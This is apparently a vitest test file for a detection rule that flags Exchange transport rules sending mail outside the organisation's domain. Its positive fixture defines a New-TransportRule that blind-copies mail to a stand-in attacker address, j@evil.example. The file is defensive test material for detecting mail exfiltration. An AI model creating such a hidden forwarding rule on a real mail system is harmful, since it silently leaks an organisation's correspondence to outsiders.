import { describe } from "vitest";
import rule from "../../../src/findings/rules/transport-rule-external/rule.js";
import { cmdlet, DOMAIN, ruleCases } from "../rule-cases.js";

describe("transport-rule-external", () => {
  ruleCases(rule, {
    positive: [
      {
        name: "BlindCopyTo outside",
        records: [cmdlet("New-TransportRule", { Name: "j", BlindCopyTo: "j@evil.example" })],
        findings: 1,
        reason: /BlindCopyTo j@evil\.example/,
      },
    ],
    negative: [
      {
        name: "a disclaimer rule",
        records: [cmdlet("New-TransportRule", { Name: "d", ApplyHtmlDisclaimerText: "x" })],
        findings: 0,
      },
    ],
    boundary: [
      {
        name: "RedirectMessageTo inside",
        records: [cmdlet("Set-TransportRule", { Name: "r", RedirectMessageTo: `legal@${DOMAIN}` })],
        findings: 0,
      },
    ],
  });
});
